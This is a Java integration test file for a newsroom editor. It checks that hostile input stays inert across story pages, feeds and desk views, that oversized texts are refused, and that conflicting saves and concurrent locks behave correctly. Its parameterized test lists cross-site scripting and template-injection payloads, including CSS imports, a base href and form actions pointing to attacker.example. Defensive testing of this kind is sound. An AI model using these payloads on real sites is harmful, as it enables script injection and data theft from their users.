package org.minbar.whole;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the editor's page sends, when it is hostile, too much, or late. */
class EditingIT {

    private static final RunningMinbar MINBAR = RunningMinbar.shared();
    private static Desk lotte;

    @BeforeAll
    static void lotte_is_at_the_desk() {
        lotte = Desk.signedIn(MINBAR, RunningMinbar.LOTTE, RunningMinbar.PASSWORD);
    }

    /** Answers the address of a new English edition. */
    private static String begun() {
        return lotte.post("/desk/stories", "lang", "en", "kind", "article", "section", "culture", "headline", "Begun")
                .expect(303)
                .header("Location")
                .replaceAll("^https?://[^/]+", "");
    }

    private static String story(String edition) {
        return lotte.get(edition)
                .page()
                .expectFirst("form#details")
                .attr("action")
                .replaceAll("\\D", "");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "</textarea></script></title><svg onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">ici</a>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "]]><script>alert(1)</script><![CDATA[",
                "{{ 7 * 191 }} {% include \"layout\" %} ${7*191}",
                "<style>@import 'https://attacker.example/x'</style><base href=https://attacker.example>",
                "<form action=https://attacker.example><button formaction=javascript:alert(1)>",
                "'; alert(1); //",
            })
    void hostile_words_do_nothing_wherever_they_are_typed(String attack) {
        String edition = begun();
        String story = story(edition);
        JsonNode saved = lotte.json(
                        "PUT",
                        edition + "/text",
                        Map.of(
                                "from",
                                1,
                                "text",
                                Map.of(
                                        "headline", "Title " + attack,
                                        "standfirst", "Two lines " + attack,
                                        "body", "<p>Here it stands.</p><p>" + attack + "</p>" + attack,
                                        "bylines", List.of(Map.of("name", "Salma " + attack, "role", "writer")),
                                        "searchTitle", "Search " + attack,
                                        "searchText", "Found " + attack,
                                        "socialText", "Shared " + attack)))
                .expect(200)
                .json();
        assertThat(saved.path("version").asInt()).isEqualTo(2);
        lotte.post(
                        "/desk/stories/" + story + "/details",
                        "section",
                        "culture",
                        "kind",
                        "article",
                        "topics",
                        "subject " + attack.replaceAll("[,،]", ""),
                        "places",
                        "place " + attack.replaceAll("[,،]", ""))
                .expect(303);
        lotte.post(edition + "/publication").expect(303);
        lotte.post(edition + "/correction", "note", "It was " + attack).expect(303);
        MINBAR.settle();

        for (String path : List.of(
                edition,
                edition + "/revisions?left=1&right=2",
                "/desk/?q=Title",
                "/desk/matrix",
                "/desk/audit?story=" + story)) {
            inert(lotte.get(path).expect(200).page(), attack + " at " + path);
        }
        String page = MINBAR.get("/en/" + story).header("Location");
        for (String path : List.of(page, "/en/", "/en/sections/culture", "/en/corrections", "/en/search?q=stands")) {
            inert(MINBAR.get(path).expect(200).page(), attack + " at " + path);
        }
        for (String path : List.of("/en/feed.atom", "/en/feed.rss")) {
            Document feed = Jsoup.parse(MINBAR.get(path).expect(200).text(), "", Parser.xmlParser());
            assertThat(feed.select("script, iframe, img, svg")).as(attack).isEmpty();
            for (Element words : feed.select("content, description, summary, content|encoded")) {
                inert(Jsoup.parseBodyFragment(words.text()), attack + " in " + path);
            }
        }
        for (JsonNode item : MINBAR.get("/en/feed.json").expect(200).json().path("items")) {
            inert(Jsoup.parseBodyFragment(item.path("content_html").asText()), attack + " in feed.json");
        }
        lotte.post(edition + "/withdrawal", "reason", "Because " + attack).expect(303);
        inert(MINBAR.get(page).expect(410).page(), attack + " withdrawn");
    }

    private static void inert(Document page, String where) {
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).as("%s in %s", element, where).doesNotStartWith("on");
                assertThat(attribute.getValue().strip().toLowerCase(java.util.Locale.ROOT))
                        .as("%s in %s", element, where)
                        .doesNotStartWith("javascript:");
            }
        }
        assertThat(page.select("iframe, base, style, img[src=x], svg[onload], form[action^=http]"))
                .as(where)
                .isEmpty();
        for (Element script : page.select("script")) {
            boolean data = script.attr("type").equals("application/ld+json");
            assertThat(script.hasAttr("src") || data || script.attr("type").equals("importmap"))
                    .as("%s in %s", script, where)
                    .isTrue();
            assertThat(script.data()).as(where).doesNotContain("<");
        }
        assertThat(page.text()).as(where).doesNotContain("1337");
    }

    @Test
    void two_megabytes_are_refused_and_stay_in_the_page() {
        String edition = begun();
        String body = "<p>" + "كلمة ".repeat(400_000) + "</p>";
        Answer refused =
                lotte.json("PUT", edition + "/text", Map.of("from", 1, "text", Map.of("headline", "A", "body", body)));
        assertThat(refused.status()).isIn(400, 413);
        assertThat(refused.json().path("title").asText()).isNotBlank();
        // Without script the page comes back with the words in it.
        String shorter = "<p>" + "word ".repeat(300_000) + "</p>";
        Answer again = lotte.post(edition, "from", "1", "headline", "A", "body", shorter);
        assertThat(again.status()).isEqualTo(400);
        Document page = again.page();
        assertThat(page.expectFirst("textarea[name=body]").wholeText())
                .contains("word word")
                .hasSizeGreaterThan(1_400_000);
        assertThat(page.expectFirst(".refusal").text()).isNotBlank();
        assertThat(lotte.get(edition).page().expectFirst("#headline").text()
                        + lotte.get(edition).page().expectFirst("#headline").val())
                .contains("Begun");
    }

    @Test
    void whoever_saves_second_from_one_version_gets_both_texts() {
        String edition = begun();
        Map<String, ?> first = Map.of("headline", "Begun", "body", "<p>The mayor opens the fair on Monday.</p>");
        lotte.json("PUT", edition + "/text", Map.of("from", 1, "text", first)).expect(200);
        Map<String, ?> mine = Map.of("headline", "Begun", "body", "<p>The mayor opens the fair on Tuesday.</p>");
        Map<String, ?> theirs = Map.of("headline", "Begun", "body", "<p>The mayor opens the fair on Friday.</p>");
        lotte.json("PUT", edition + "/text", Map.of("from", 2, "text", theirs)).expect(200);
        JsonNode clash = lotte.json("PUT", edition + "/text", Map.of("from", 2, "text", mine))
                .expect(409)
                .json();
        assertThat(clash.path("version").asInt()).isEqualTo(3);
        assertThat(clash.path("text").path("mine").path("body").asText()).contains("Tuesday");
        assertThat(clash.path("text").path("theirs").path("body").asText()).contains("Friday");
        assertThat(clash.path("text").path("base").path("body").asText()).contains("Monday");
        assertThat(lotte.get(edition).page().expectFirst("textarea[name=body]").wholeText())
                .contains("Friday")
                .doesNotContain("Tuesday");
    }

    @Test
    void one_of_many_who_open_an_edition_at_once_holds_it_and_the_others_are_told_who() throws Exception {
        List<Desk> browsers = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            browsers.add(Desk.signedIn(MINBAR, RunningMinbar.LOTTE, RunningMinbar.PASSWORD));
        }
        ExecutorService together = Executors.newFixedThreadPool(browsers.size());
        try {
            for (int round = 0; round < 10; round++) {
                String edition = begun();
                List<Callable<Answer>> calls = new ArrayList<>();
                for (Desk browser : browsers) calls.add(() -> browser.json(edition + "/lock", Map.of()));
                List<Integer> statuses = new ArrayList<>();
                for (Future<Answer> answer : together.invokeAll(calls)) {
                    statuses.add(answer.get().status());
                    if (answer.get().status() == 500)
                        throw new AssertionError(answer.get().toString());
                }
                assertThat(statuses).containsOnly(200, 423).containsOnlyOnce(200);
            }
        } finally {
            together.shutdownNow();
        }
    }
}
